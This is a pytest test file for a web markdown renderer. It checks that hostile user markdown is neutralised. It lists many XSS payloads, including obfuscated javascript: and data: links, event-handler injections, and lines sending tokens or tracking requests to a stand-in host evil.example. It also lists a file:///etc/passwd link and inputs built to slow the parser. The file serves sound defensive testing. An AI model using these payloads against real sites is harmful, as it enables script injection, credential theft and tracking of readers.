"""Markdown of people in pages: nothing of it runs, loads or leads astray."""

from __future__ import annotations

import re

import pytest

from fettled.web.markdown import render

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=token><button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/seen.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example '\"><img src=x onerror=alert(1)>')",
    '[x](https://ok.example/"onmouseover="alert(1))',
    '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script> |",
    "> <script>alert(1)</script>",
    "1. <svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e[x](https://ok.example)",
]
ALLOWED = re.compile(
    r"</?(p|br|hr|h[1-6]|blockquote|pre|code|em|strong|s|ul|ol|li|table|thead|tbody|tr|th|td)>"
    r'|<a href="(https?://|mailto:)[^"<>]*"( title="[^"]*")? rel="noopener noreferrer nofollow">'
    r'|<a( title="[^"]*")? rel="noopener noreferrer nofollow">|</a>'
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_becomes_text(text: str) -> None:
    """
    Every tag that is left is one of the list, every link leads to the web or to a mailbox.

    Seen to fail with `html` on and the cleaning left out; each alone holds.
    """
    left = ALLOWED.sub("", render(text))
    assert "<" not in left
    assert not re.search(r'href="(?!https?://|mailto:)', render(text), re.IGNORECASE)


def test_a_picture_is_left_out() -> None:
    """Its address would tell its owner who reads the ticket."""
    assert "evil.example" not in render("![x](https://evil.example/seen.png)")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 16_000,
        "![" * 8_000,
        "*" * 16_000,
        "**a " * 4_000,
        "> " * 8_000,
        "- " * 8_000,
        "`" * 15_999,
        "<" * 16_000,
        "&" * 16_000,
        "[a](" * 4_000,
        "a|" * 8_000 + "\n" + "-|" * 8_000,
        "\\" * 16_000,
        "_a_" * 5_000,
        "[x]: " * 3_000,
        "\n" * 16_000,
        "~~" * 8_000,
    ],
)
def test_text_that_is_made_to_be_slow_is_not(text: str) -> None:
    """The longest comment of each kind is rendered within seconds."""
    render(text[:16_000])


def test_markdown_is_rendered() -> None:
    """As people write it."""
    shown = render(
        "**Door 1** is [open](https://example.org/a?b=c)\n\n- a\n- ~~b~~\n\n| a |\n|---|\n| 1 |"
    )
    assert "<strong>Door 1</strong>" in shown
    assert (
        '<a href="https://example.org/a?b=c" rel="noopener noreferrer nofollow">open</a>' in shown
    )
    assert "<li>a</li>" in shown
    assert "<s>b</s>" in shown
    assert "<td>1</td>" in shown
